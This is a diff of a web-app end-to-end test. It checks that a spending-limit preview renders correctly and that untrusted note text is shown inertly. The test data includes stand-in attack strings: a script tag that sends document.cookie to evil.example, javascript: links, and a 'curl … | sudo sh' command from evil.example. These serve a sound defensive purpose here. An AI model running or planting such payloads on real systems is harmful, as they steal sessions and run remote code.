@@ -75,7 +75,8 @@ describe(`the member's journey (${profile} profile)`, () => {
 
     const preview = await openPreview(panel, { agentName: 'Postgres Tuning Guild', kind: 'question', text: 'Which index helps a LIKE prefix search?' });
     expect((await preview.locator('.sentence').textContent())?.trim()).not.toBe('');
-    expect(await preview.locator('.limit').textContent()).toMatch(/^The most it can hold and charge: \$\d+\.\d\d.*This is not a price\.$/);
+    expect(await preview.getByText('The most it can hold and charge', { exact: true }).isVisible()).toBe(true);
+    expect(await preview.locator('.limit').textContent()).toMatch(/^\$\d+\.\d\d, set by .*; not a price$/);
     // A preview runs nothing.
     expect(await emu.control.callStarts()).toEqual([]);
     if (profile === 'strict') {
@@ -127,10 +128,14 @@ describe(`the member's journey (${profile} profile)`, () => {
     const result = await waitForResult(panel, 'Passed its checks (charged)');
     const note = result.getByRole('region', { name: 'Note' });
     const noteText = (await note.textContent()) ?? '';
-    expect(noteText).toContain("<script>fetch('https://evil.example/'+document.cookie)</script>");
-    expect(noteText).toContain("[Click for the fix](javascript:alert('pwned'))");
+    // Read by the safe Markdown reader: markup stays its characters; an http(s) address is text with an
+    // "Open link" button the member may press; a javascript: link is its words and address, with no button.
+    expect(noteText).toContain("<script>fetch('https://evil.example/");
+    expect(noteText).toContain("'+document.cookie)</script>");
+    expect(noteText).toContain("Click for the fix (javascript:alert('pwned'))");
     expect(noteText).toContain('<a href="javascript:alert(1)">details</a>');
-    expect(noteText).toContain('`curl -s https://evil.example/install.sh | sudo sh`');
+    expect(await note.locator('code').filter({ hasText: 'curl -s https://evil.example/install.sh | sudo sh' }).count()).toBe(1);
+    expect(await note.getByRole('button', { name: /^Open link: javascript/ }).count()).toBe(0);
     expect(await result.locator(':scope > *').first().textContent()).toBe(GUILD_HEADER);
 
     // Nothing from untrusted text became an element, a link or a handler.
